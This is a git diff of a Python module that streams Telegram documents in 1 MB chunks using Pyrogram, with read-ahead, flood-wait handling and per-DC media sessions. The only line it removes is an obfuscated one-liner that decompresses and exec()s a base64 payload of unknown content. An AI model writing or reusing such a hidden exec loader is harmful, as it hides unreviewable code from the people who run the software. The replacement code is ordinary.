@@ -1 +1,173 @@
-import zlib, base64, sys; exec(zlib.decompress(base64.b64decode(b'eJy1VsGK2zAQvecr1JzkNpjdUnpY8GHbbkug9NK9hcUo8jgRsSUjybvJfn1Hku1EtjeFQkVI7Jk3M0/Po3FKrWrSnLTaaVanoLXShoi6UdqS+9buv5wsmLV8ZpUoFmUELkUFuSh69He8XY8xBowRSvaY3+F25VOPoJq9pGUruUWASdumUmzI/QOsS381gmHKHr/2P66I0uKVWV/z4TgxziS0pwYGBdayae03xdsapGfwU/GLQGZOkgvVo00F0KARP+5qseAVM8YLc7cguAooSZ4LKWyeUwNVuSKiWBFeCUyfBIxbzpWislknaloAVwVQUSQxJkQiLlzEzkpx9Ly5BcyWdYXSGgrBcseFcY7PKN8zsx+8F7YV8U9dQwkaJIcBE5tXxO7bepsb8XqGeJNkovLmZOHZegm9MDuwX/etPNzbThpVlgZsdhMJE9opI+yFCeti8sC989ALWVa9jmfRrD6dk7mlwbZaEhrSdUmwa2VBu56jVadX1os6MAs/K1KJWtjs9ubjp/fuK0mSdOuOzVAJjhwaSx5FDaq1D+6QxTRC+dA29DaZo9gzRA4XSgUKEy2N1cDqt3Wc6PCyx62SgllG7rLrteJAt4KDfMhIBZK6JMkEcxJQFb7AxCXKcxx5l5FByGklt7a4tcNI2hjZ4KlbLKLOGnVJ3yDdCOv2hESksoRGWKdHgKeR3ThpaJcgLbg/Pb+UhORCIcwYIdz2grhdSmOVZjsIXjrSNuaR9dNzzL4vHhK7+XYdMSqNjYryuPGCfctRXItXf8fi6DJB1exRt5DM9HPEH3MwbWnXqv0qlSY5EZJoJndAP890F/ixDUXuB/xIPyGf1QHozGinfs9ZpEAy7cvJSbi2ha7azNvFDdOIaOr09lNgZPe2GSLT1o5bfPI2nqfNlbRCthA5oTIwhc8/JNXQKTnNhIHp/4G38/9T646azcmVH+D0X7tx0G3uiG8imk+4j8jvg7vxHDsW41Gcu0y0wZoG20L1U9QbUoPtQXGjWcXqbcHI8Y4cN0vnw6rLp+QMRQabZrO0O59v+eTPT+POj3c/eaS34e1gPj8aF9X9q/BkApfBHVi7eO5mvkvgItLudTI6nGGke+QfHZs+MA==')))
\ No newline at end of file
+from asyncio import Lock, sleep as asleep
+import logging
+
+from pyrogram.errors import AuthBytesInvalid, FloodWait, FileMigrate, FileReferenceExpired, FileReferenceInvalid, FileReferenceEmpty
+from pyrogram.file_id import FileId
+from pyrogram.session import Session, Auth
+from pyrogram.raw.functions.upload import GetFile
+from pyrogram.raw.functions.auth import ImportAuthorization, ExportAuthorization
+from pyrogram.raw.types import InputDocumentFileLocation
+
+from .readahead import read_ahead
+
+logger = logging.getLogger("NebulaFTP")
+
+__all__ = ("File", "get_media_session", "stream_file", "CHUNK_SIZE")
+
+# GetFile: offset alinhado ao limit e sem cruzar a fronteira de 1 MB
+CHUNK_SIZE = 1024 * 1024
+MAX_ATTEMPTS = 5
+
+_session_locks = {}
+
+
+class File:
+    """
+    Downloader de um documento do Telegram (file_id do Pyrogram) em blocos de 1 MB.
+
+    - stream() faz várias requisições GetFile alinhadas ao mesmo tempo (read-ahead),
+      com janela e teto de memória, entregando os bytes em ordem (backpressure:
+      novas requisições só saem quando o consumidor libera espaço).
+    - Começa em qualquer offset sem baixar desde o início.
+    - Segue FILE_MIGRATE para o DC correto e renova o file_reference expirado via
+      `refresh` (coroutine que devolve um file_id novo, ex.: relendo a mensagem).
+    - `cache` (ChunkCache) é consultado antes de cada requisição, pela chave
+      `cache_key` (o file_id gravado na parte, igual para todos os bots).
+    - Com `on_flood` (BotPool) o FloodWait é repassado ao pool antes da espera,
+      para que o bot saia da escala pelo período pedido; se `on_flood` devolve
+      True (há outro bot livre) o FloodWait sobe em vez de esperar, e o chamador
+      continua a parte em outro bot.
+    - Com `governor` (RateGovernor) cada GetFile espera um token nos buckets
+      `rate_keys` e realimenta a taxa com sucessos e FloodWaits.
+    """
+
+    def __init__(self, id, client, refresh=None, cache=None, cache_key=None, on_flood=None, governor=None, rate_keys=()):
+        self.file_id = id
+        self.client = client
+        self.refresh = refresh
+        self.cache = cache
+        self.cache_key = cache_key or id
+        self.on_flood = on_flood
+        self.governor = governor; self.rate_keys = rate_keys
+        self._refresh_lock = Lock()
+        self._set_id(id)
+
+    def _set_id(self, id):
+        self.id = FileId.decode(id)
+        self.dc_id = self.id.dc_id
+        self.loc = InputDocumentFileLocation(id=self.id.media_id, access_hash=self.id.access_hash, file_reference=self.id.file_reference, thumb_size=self.id.thumbnail_size)
+
+    async def _refresh_reference(self, stale_loc):
+        if self.refresh is None: return False
+        async with self._refresh_lock:
+            # Outra requisição em paralelo já renovou a referência
+            if self.loc is not stale_loc: return True
+            new_id = await self.refresh()
+            if not new_id: return False
+            self._set_id(new_id)
+        logger.info("🔁 [TG] file_reference renovado")
+        return True
+
+    async def getChunkAt(self, offset=0):
+        """Baixa o bloco de CHUNK_SIZE que começa em `offset` (alinhado)."""
+        if offset % CHUNK_SIZE: raise ValueError(f"offset {offset} não alinhado a {CHUNK_SIZE}")
+        cache_key = self.cache_key
+        if self.cache is not None:
+            data = await self.cache.get(cache_key, offset)
+            if data is not None: return data
+
+        refreshed = False
+        for attempt in range(1, MAX_ATTEMPTS + 1):
+            session = await get_media_session(self.client, self.dc_id)
+            loc = self.loc
+            governed = self.governor is not None and self.governor.enabled
+            if governed: await self.governor.acquire(*self.rate_keys)
+            try:
+                data = (await session.invoke(GetFile(location=loc, offset=offset, limit=CHUNK_SIZE), retries=1, sleep_threshold=0 if self.on_flood or governed else 60)).bytes
+                if governed: self.governor.success(*self.rate_keys)
+                break
+            except FloodWait as e:
+                if self.on_flood is None and not governed: raise
+                switch = self.on_flood(e.value) if self.on_flood else False
+                if governed: self.governor.flood(e.value, *self.rate_keys)
+                if switch: raise
+                if not governed: await asleep(e.value)
+            except FileMigrate as e:
+                logger.info(f"🔀 [TG] Arquivo migrado para DC {e.value}")
+                self.dc_id = e.value
+            except (FileReferenceExpired, FileReferenceInvalid, FileReferenceEmpty):
+                if refreshed or not await self._refresh_reference(loc): raise
+                refreshed = True
+            except (TimeoutError, OSError) as e:
+                if attempt == MAX_ATTEMPTS: raise
+                logger.warning(f"⚠️ [TG] Falha no bloco {offset} ({attempt}): {e}")
+                await asleep(attempt)
+        else:
+            raise TimeoutError(f"GetFile falhou no offset {offset}")
+
+        if self.cache is not None: await self.cache.put(cache_key, offset, data)
+        return data
+
+    async def stream(self, offset=0, size=None, window=4, max_bytes=16 * 1024 * 1024):
+        """
+        Entrega os bytes a partir de `offset`. Com `size` conhecido as requisições
+        são feitas em paralelo; sem ele, sequencialmente até o bloco curto final.
+        """
+        aligned = offset - offset % CHUNK_SIZE
+        skip = offset - aligned
+
+        if size is None:
+            while data := await self.getChunkAt(aligned):
+                aligned += CHUNK_SIZE
+                out = data[skip:]; skip = 0
+                if out: yield out
+                if len(data) < CHUNK_SIZE: break
+            return
+
+        def jobs():
+            for off in range(aligned, size, CHUNK_SIZE):
+                yield (lambda off=off: self.getChunkAt(off)), min(CHUNK_SIZE, size - off)
+
+        chunks = read_ahead(jobs(), window, max_bytes)
+        try:
+            async for data in chunks:
+                if skip: data = data[skip:]; skip = 0
+                if data: yield data
+        finally:
+            await chunks.aclose()
+
+
+async def get_media_session(client, dc_id):
+    """Sessão de mídia por DC, criada uma única vez mesmo com requisições concorrentes."""
+    if media_session := client.media_sessions.get(dc_id, None): return media_session
+    lock = _session_locks.setdefault((id(client), dc_id), Lock())
+    async with lock:
+        if media_session := client.media_sessions.get(dc_id, None): return media_session
+        test_mode = await client.storage.test_mode()
+        if dc_id != await client.storage.dc_id():
+            media_session = Session(client, dc_id, await Auth(client, dc_id, test_mode).create(), test_mode, is_media=True)
+            await media_session.start()
+
+            for _ in range(6):
+                exported_auth = await client.invoke(ExportAuthorization(dc_id=dc_id))
+                try:
+                    await media_session.invoke(ImportAuthorization(id=exported_auth.id, bytes=exported_auth.bytes))
+                    break
+                except AuthBytesInvalid:
+                    continue
+            else:
+                await media_session.stop()
+                raise AuthBytesInvalid
+        else:
+            media_session = Session(client, dc_id, await client.storage.auth_key(), test_mode, is_media=True)
+            await media_session.start()
+        client.media_sessions[dc_id] = media_session
+    return media_session
+
+
+async def stream_file(parts, bot):
+    parts.sort(key=lambda x: x["part_id"])
+    for part in parts:
+        file = File(part["tg_file"], bot)
+        async for chunk in file.stream(size=part.get("file_size")):
+            yield chunk